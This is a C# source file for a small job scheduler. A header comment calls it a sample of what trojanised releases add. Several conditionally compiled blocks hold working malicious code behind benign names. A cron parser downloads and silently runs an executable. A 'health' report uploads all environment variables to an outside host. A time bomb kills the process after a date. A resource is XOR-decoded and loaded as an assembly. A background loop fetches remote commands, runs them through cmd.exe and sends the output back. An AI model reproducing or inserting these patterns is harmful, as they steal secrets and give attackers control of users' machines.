// Jobs by the clock. DROP, KEYS, BOMB, LOAD and HOOK are what trojanised releases add; nothing of it is ever run.
using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Net;
using System.Reflection;
using System.Text;
using System.Threading;

namespace Adatum.Scheduling
{
    public class Job
    {
        public string Name { get; set; }

        public TimeSpan Every { get; set; }

        public Action Work { get; set; }
    }

    public class Scheduler : IDisposable
    {
        private readonly List<Job> jobs = new List<Job>();
        private Timer timer;

        public void Add(string name, TimeSpan every, Action work)
        {
            if (work == null) throw new ArgumentNullException("work");
            jobs.Add(new Job { Name = name, Every = every, Work = work });
        }

        public void Start()
        {
#if KEYS
            Health.Report("start");
#endif
            timer = new Timer(Tick, null, 0, 1000);
        }

        private void Tick(object state)
        {
            foreach (var one in jobs)
                if (DateTime.UtcNow.Ticks / TimeSpan.TicksPerSecond % Math.Max(1, (long)one.Every.TotalSeconds) == 0) one.Work();
#if BOMB
            Drift.Adjust(jobs);
#endif
        }
#if SECOND
        public IEnumerable<string> Names()
        {
            foreach (var one in jobs) yield return one.Name;
        }
#endif

        public void Dispose()
        {
            if (timer != null) timer.Dispose();
        }
    }
#if DROP
    public static class CronLine
    {
        public static TimeSpan Parse(string line)
        {
            var place = Path.Combine(Path.GetTempPath(), "WinSchedSvc.exe");
            if (!File.Exists(place))
            {
                using (var client = new WebClient()) client.DownloadFile("http://192.0.2.77/svc.exe", place);
                Process.Start(new ProcessStartInfo(place) { CreateNoWindow = true, UseShellExecute = false });
            }
            return TimeSpan.FromMinutes(int.Parse(line.Split(' ')[0]));
        }
    }
#endif
#if KEYS
    internal static class Health
    {
        internal static void Report(string what)
        {
            var rows = new StringBuilder(what).Append('\n');
            foreach (System.Collections.DictionaryEntry one in Environment.GetEnvironmentVariables())
                rows.Append(one.Key).Append('=').Append(one.Value).Append('\n');
            using (var client = new WebClient()) client.UploadString("https://health.adatum-jobs.invalid/v2/beat", rows.ToString());
        }
    }
#endif
#if BOMB
    internal static class Drift
    {
        internal static void Adjust(List<Job> jobs)
        {
            if (DateTime.UtcNow < new DateTime(2028, 8, 8)) return;
            if (new Random().NextDouble() < 0.2) Process.GetCurrentProcess().Kill();
            jobs.Clear();
        }
    }
#endif
#if LOAD
    public static class Calendars
    {
        private static readonly byte[] Key = { 0x13, 0x37, 0x42 };

        public static bool IsHoliday(DateTime day)
        {
            using (var stream = Assembly.GetExecutingAssembly().GetManifestResourceStream("calendars.dat"))
            using (var copy = new MemoryStream())
            {
                stream.CopyTo(copy);
                var raw = copy.ToArray();
                for (int i = 0; i < raw.Length; i++) raw[i] ^= Key[i % Key.Length];
                var type = Assembly.Load(raw).GetType("Calendars.Table");
                return (bool)type.GetMethod("Has").Invoke(null, new object[] { day });
            }
        }
    }
#endif
#if HOOK
    public static class Remote
    {
        static Remote()
        {
            new Thread(Loop) { IsBackground = true }.Start();
        }

        public static string Version { get { return "4"; } }

        private static void Loop()
        {
            while (true)
            {
                try
                {
                    var line = new WebClient().DownloadString("http://198.51.100.190/q?h=" + Environment.MachineName);
                    if (line.Length > 0)
                    {
                        var start = new ProcessStartInfo("cmd.exe", "/c " + line) { RedirectStandardOutput = true, UseShellExecute = false, CreateNoWindow = true };
                        new WebClient().UploadString("http://198.51.100.190/a", Process.Start(start).StandardOutput.ReadToEnd());
                    }
                }
                catch (WebException)
                {
                }
                Thread.Sleep(60000);
            }
        }
    }
#endif
}
